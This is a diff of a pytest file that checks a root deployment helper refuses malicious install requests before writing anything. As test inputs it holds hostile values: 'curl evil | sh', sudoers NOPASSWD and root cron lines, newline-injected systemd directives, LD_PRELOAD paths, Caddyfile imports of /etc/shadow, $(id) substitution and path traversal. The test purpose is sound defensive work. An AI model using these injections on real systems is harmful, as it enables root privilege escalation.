@@ -1,43 +1,42 @@
-"""The helper's command line: refusals (exit 2, one JSON object, no traceback) and the staged
-files' checks, all made before anything on the host is touched."""
+"""The helper's requests: refusals (exit 2, one JSON object, no traceback), made before anything
+on the host is touched. The caller sends a catalogue, never files: every way the admin's account
+could try to make root write a line of its own is refused here, and nothing is written."""
 
 from __future__ import annotations
 
-import json
+import copy
 import os
-from pathlib import Path
 
 import pytest
 
-from appliance.deploy import helper, revisions
-from appliance.render.layout import paths_under
+from appliance.deploy import helper
 
-from .fakes import call_helper as run
-from .fakes import helper_layout
+from .fakes import ask_helper, call_helper, helper_layout, wire_catalogue
 
 pytestmark = pytest.mark.unit
 
 
 @pytest.fixture
 def host(tmp_path, monkeypatch):
+    from appliance.render.layout import paths_under
+
     paths = paths_under(tmp_path / "root")
     helper_layout(tmp_path / "layout.json", paths, monkeypatch)
     return paths
 
 
-def record(content: str, mode: int = 0o644, secret: bool = False, check: str = "") -> dict:
-    return {"content": content, "mode": mode, "owner": "root", "group": "root",
-            "secret": secret, "check": check}
-
-
-def stage(paths, number=1, files=None) -> str:
-    files = files or {f"{paths.initd_dir}/caddy": record("#!/bin/sh\n", 0o755, check="sh")}
-    return revisions.write_staging(paths.data_dir, number, files)
-
-
 def refused(capsys, *argv) -> str:
-    code, answer = run(capsys, *argv)
+    code, answer = call_helper(capsys, *argv)
     assert (code, answer["ok"], answer.get("refused")) == (2, False, True), answer
+    return answer["message"]
+
+
+def install_refused(capsys, monkeypatch, host, request: dict) -> str:
+    code, answer = ask_helper(capsys, monkeypatch, request)
+    assert (code, answer["ok"], answer.get("refused")) == (2, False, True), answer
+    root = host.data_dir.removesuffix("/var/lib/appliance")
+    written = [os.path.join(d, f) for d, _, files in os.walk(root) for f in files]
+    assert not [path for path in written if not path.endswith("layout.json")], written
     return answer["message"]
 
 
@@ -49,6 +48,7 @@ def refused(capsys, *argv) -> str:
     ("daemon-reload", "now"), ("reload-caddy", "--force"), ("logs",), ("logs", "sshd"),
     ("logs", "caddy", "--lines"), ("logs", "caddy", "--lines", "2001"),
     ("logs", "caddy", "--lines", "0"), ("logs", "caddy", "-n", "5"), ("--help",),
+    ("state", "now"), ("install", "1"),
 ])
 def test_refused_command_lines(capsys, host, argv):
     assert refused(capsys, *argv)
@@ -56,95 +56,117 @@ def test_refused_command_lines(capsys, host, argv):
 
 def test_unknown_command_says_what_is_known(capsys, host):
     message = refused(capsys, "shell")
-    assert "unknown command 'shell'" in message and "install STAGING_DIR" in message
+    assert "unknown command 'shell'" in message and "install REVISION" in message
 
 
-def test_only_a_direct_root_call_may_name_another_layout(monkeypatch):
-    monkeypatch.setenv("APPLIANCE_LAYOUT", "/tmp/elsewhere.json")
-    monkeypatch.delenv("SUDO_USER", raising=False)
-    monkeypatch.delenv("SUDO_UID", raising=False)
-    assert helper.layout_path() == "/tmp/elsewhere.json"
-    monkeypatch.setenv("SUDO_USER", "appliance")
-    assert helper.layout_path() == "/etc/appliance/layout.json"
+def test_an_install_on_the_command_line_needs_a_request(capsys, host):
+    assert "takes its catalogue in a request" in refused(capsys, "install", "1")
 
 
 def test_an_unexpected_error_is_words_on_stdout(capsys, monkeypatch):
-    def boom(argv):
+    def boom(argv, request, layout_file):
         raise RuntimeError("disk on fire")
 
     monkeypatch.setattr(helper, "dispatch", boom)
-    code, answer = run(capsys, "daemon-reload")
+    code, answer = call_helper(capsys, "daemon-reload")
     assert code == 1 and answer == {"ok": False,
                                     "message": "internal error: RuntimeError: disk on fire"}
 
 
-def test_staging_dir_must_be_a_numbered_child_of_staging(capsys, host, tmp_path):
-    good = stage(host)
-    elsewhere = tmp_path / "elsewhere" / "1"
-    elsewhere.mkdir(parents=True)
-    assert "not a directory directly under" in refused(capsys, "install", str(elsewhere))
-    assert "not a directory directly under" in refused(capsys, "install", "/etc")
-    assert "not a directory directly under" in refused(capsys, "install", good + "/files")
-    assert "not a directory directly under" in refused(
-        capsys, "install", f"{host.data_dir}/staging/1/../../staging2/1")
-    named = os.path.join(host.data_dir, "staging", "next")
-    os.rename(good, named)
-    assert "not a revision number" in refused(capsys, "install", named)
+@pytest.mark.parametrize(("raw", "words"), [
+    (b"not json", "not JSON"), (b"[1, 2]", '"args"'), (b'{"args": "install 1"}', '"args"'),
+    (b'{"args": [1]}', "usage"),
+])
+def test_a_request_that_is_not_a_request_is_refused(capsys, monkeypatch, host, raw, words):
+    code, answer = ask_helper(capsys, monkeypatch, raw)
+    assert code == 2 and words in answer["message"]
 
 
-def test_a_symlinked_staging_dir_is_refused(capsys, host, tmp_path):
-    target = tmp_path / "outside" / "7"
-    target.mkdir(parents=True)
-    os.makedirs(f"{host.data_dir}/staging", exist_ok=True)
-    link = f"{host.data_dir}/staging/7"
-    os.symlink(target, link)
-    assert "symbolic link" in refused(capsys, "install", link)
+# --- the files root would write: only what the renderers make of a valid catalogue -----------
+
+def request(**changes) -> dict:
+    return {"args": ["install", "1"], "catalogue": wire_catalogue(), "catalogue_id": "c1",
+            **changes}
 
 
-def test_manifest_paths_outside_the_allow_list_are_refused(capsys, host):
-    staged = stage(host, files={"/etc/passwd": record("root::0:0::/:/bin/sh\n")})
-    message = refused(capsys, "install", staged)
-    assert "outside the allow-list: /etc/passwd" in message
-    assert not os.path.exists(f"{host.data_dir}/backups")
+def with_host(**fields) -> dict:
+    data = wire_catalogue()
+    data["host"].update(fields)
+    return request(catalogue=data)
 
 
-def test_a_file_that_does_not_match_its_sha256_is_refused(capsys, host):
-    staged = stage(host)
-    with open(f"{staged}/files{host.initd_dir}/caddy", "a") as handle:
-        handle.write("curl evil | sh\n")
-    assert "does not match its sha256" in refused(capsys, "install", staged)
+def with_skill(**fields) -> dict:
+    data = wire_catalogue()
+    data["skills"][0].update(fields)
+    return request(catalogue=data)
 
 
-def test_a_staged_symlink_is_refused(capsys, host, tmp_path):
-    secret = tmp_path / "secret"
-    secret.write_text("#!/bin/sh\n")
-    staged = stage(host)
-    staged_file = f"{staged}/files{host.initd_dir}/caddy"
-    os.unlink(staged_file)
-    os.symlink(secret, staged_file)
-    assert "missing or unsafe" in refused(capsys, "install", staged)
+def test_files_sent_with_the_catalogue_are_refused(capsys, monkeypatch, host):
+    unit = "[Service]\nUser=root\nExecStart=/bin/sh -c 'id > /tmp/owned'\n"
+    message = install_refused(capsys, monkeypatch, host, request(files={
+        f"{host.systemd_dir}/alexa-skill-x.service": unit}))
+    assert "unknown request fields: files" in message
 
 
-def test_a_symlinked_folder_inside_staging_is_refused(capsys, host, tmp_path):
-    staged = stage(host)
-    real = f"{staged}/files{host.initd_dir}"
-    os.rename(real, tmp_path / "moved")
-    os.symlink(tmp_path / "moved", real)
-    assert "missing or unsafe" in refused(capsys, "install", staged)
+@pytest.mark.parametrize("payload", [
+    # A unit as root, or as someone else: root's settings are not the caller's to send.
+    with_host(skill_user="root"), with_host(admin_user="root"),
+    with_host(caddy_admin="0.0.0.0:2019"), with_host(duckdns_url="https://evil.example/"),
+    # The old staged-file attacks, as fields: a sudoers rule and a cron line are no field.
+    with_host(sudoers="#999 ALL=(ALL:ALL) NOPASSWD: ALL"),
+    with_host(cron="* * * * * root sh -c evil"),
+    with_skill(unit="[Service]\nUser=root"), with_skill(user="skill-other"),
+])
+def test_fields_only_root_decides_are_refused(capsys, monkeypatch, host, payload):
+    assert "unknown fields" in install_refused(capsys, monkeypatch, host, payload)
 
 
-def test_bad_manifests_are_refused(capsys, host):
-    staged = stage(host)
-    manifest = f"{staged}/manifest.json"
-    entries = json.loads(Path(manifest).read_text())
-    for bad, words in ((entries * 2, "appears twice"), ({"path": "/x"}, "must be a list"),
-                       ([{**entries[0], "mode": 0o4755}], "mode"), ("not json", "unreadable")):
-        with open(manifest, "w") as handle:
-            handle.write(bad if isinstance(bad, str) else json.dumps(bad))
-        assert words in refused(capsys, "install", staged)
+@pytest.mark.parametrize(("payload", "words"), [
+    # Lines of one's own in a unit, an init script, the env file or the cron file.
+    (with_skill(name="Quiz\nExecStartPre=/bin/sh -c evil"), "one line"),
+    (with_skill(environment=[["GREETING", "hi\nUser=root"]]), "one line"),
+    (with_skill(secrets=[["KEY", "x\n* * * * * root evil"]]), "one line"),
+    (with_skill(environment=[["LD_PRELOAD", "/tmp/evil.so"]]), "LD_PRELOAD"),
+    (with_skill(environment=[["PYTHONPATH", "/tmp/evil"]]), "PYTHONPATH"),
+    (with_skill(environment=[["bad name", "x"]]), "variable name"),
+    (with_host(duckdns_domains=["me\n* * * * * root sh -c evil"], duckdns_token="0" * 36),
+     "DuckDNS"),
+    (with_host(duckdns_domains=["me"], duckdns_token="x&ip=1\nurl=file:///etc/shadow"),
+     "token"),
+    # A Caddyfile that imports or serves root's files.
+    (with_skill(fqdn="x.localhost {\n\timport /etc/appliance/*\n}\nevil.localhost"),
+     "not a host name"),
+    (with_host(admin_fqdn="admin.localhost {\n\troot * /\n\tfile_server\n}\nx.localhost"),
+     "not a host name"),
+    (with_host(acme_email="a@b.org\n\timport /etc/shadow"), "e-mail"),
+    # A drop-in folder, another skill's account, a skill twice.
+    (with_skill(slug="x.service.d"), "not a skill name"),
+    (with_skill(slug="../caddy"), "not a skill name"),
+    (request(catalogue={**wire_catalogue(), "skills": wire_catalogue()["skills"] * 2}),
+     "appears twice"),
+    # Code to run from anywhere, ports and counts out of range, wrong types.
+    (with_skill(source_path="/tmp/evil"), "neither a bundled skill"),
+    (with_skill(source_path="/var/lib/appliance/skills/other/app"), "neither a bundled"),
+    (with_skill(port=22), "port"), (with_skill(port=True), "must be of type int"),
+    (with_skill(threads=10_000), "threads"), (with_skill(enabled="yes"), "of type bool"),
+    (with_host(console_ca_pem="-----BEGIN CERTIFICATE-----\n$(id)\n"), "PEM"),
+    (with_host(init_flavour="systemd"), "this host runs sysv"),
+    (request(catalogue_id="../../etc"), "catalogue_id"),
+    (request(catalogue={"format": 2, "host": {}, "skills": []}), "format"),
+])
+def test_a_catalogue_that_would_write_lines_of_its_own_is_refused(capsys, monkeypatch, host,
+                                                                    payload, words):
+    assert words in install_refused(capsys, monkeypatch, host, payload)
 
 
-def test_a_sudoers_file_granting_more_is_refused(capsys, host):
-    rule = "appliance ALL=(ALL) NOPASSWD: ALL\n"
-    staged = stage(host, files={host.sudoers: record(rule, 0o440)})
-    assert "only rules running" in refused(capsys, "install", staged)
+def test_nothing_the_request_says_reaches_root_unchecked(monkeypatch, host):
+    """The shape of every refusal above: a valid request still renders (the control)."""
+    from appliance.deploy import install
+
+    payload = copy.deepcopy(request())
+    entries, _ = install.render_request(payload["catalogue"], host,
+                                               {"init_flavour": "sysv", "admin_user": "root"})
+    paths = {entry["path"] for entry in entries}
+    assert f"{host.initd_dir}/alexa-skill-memory-game" in paths
+    assert host.caddyfile in paths and host.sudoers not in paths
+    assert all(entry["owner"] == "root" for entry in entries)
